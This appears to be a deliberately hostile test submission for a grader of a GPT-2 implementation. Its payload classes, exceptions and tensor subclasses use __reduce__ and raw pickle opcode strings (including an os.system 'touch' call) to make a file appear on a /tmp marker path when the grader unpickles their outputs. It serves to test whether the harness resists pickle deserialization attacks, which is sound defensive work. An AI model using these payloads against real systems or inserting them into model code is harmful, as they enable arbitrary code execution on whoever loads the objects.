# verdict: fail
# group: 4
# status: fail|error
# tries: outputs, attributes and exceptions whose __reduce__ writes a file where they are unpickled
import torch
from torch import nn

MARKER = "/tmp/gpt2-kit-hostile-lying_reduce_payload"


class Payload:
    def __reduce__(self):
        return open, (MARKER, "w")

    __reduce_ex__ = lambda self, protocol: self.__reduce__()  # noqa: E731

    def __repr__(self):
        return f"cos\nsystem\n(S'touch {MARKER}'\ntR."


class Loaded(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Payload().__reduce__()


class Fault(RuntimeError):
    def __init__(self, *args):
        super().__init__(Payload(), b"\x80\x04c__builtin__\nopen\n.")

    def __reduce__(self):
        return Payload().__reduce__()


def fail():
    raise Fault


class CausalSelfAttention(nn.Module):
    def __init__(self, embed_dim, num_heads, block_size, dropout_p=0.0):
        super().__init__()
        self.extra = Payload()
        self.out = nn.Linear(embed_dim, embed_dim)

    def forward(self, x):
        return self.out(x).detach().as_subclass(Loaded)


class MLP(nn.Module):
    def __init__(self, embed_dim, dropout_p=0.0):
        super().__init__()
        self.down = nn.Linear(embed_dim, embed_dim)

    def forward(self, x):
        return [Payload(), self.down(x)]


class TransformerBlock(CausalSelfAttention):
    def forward(self, x):
        return fail()


class GPT2(nn.Module):
    def __init__(self, vocab_size, embed_dim, num_heads, num_layers, block_size, dropout_p=0.0):
        super().__init__()
        self.tokens = nn.Embedding(vocab_size, embed_dim)
        self.head = nn.Linear(embed_dim, vocab_size)

    def forward(self, idx):
        return self.head(self.tokens(idx))
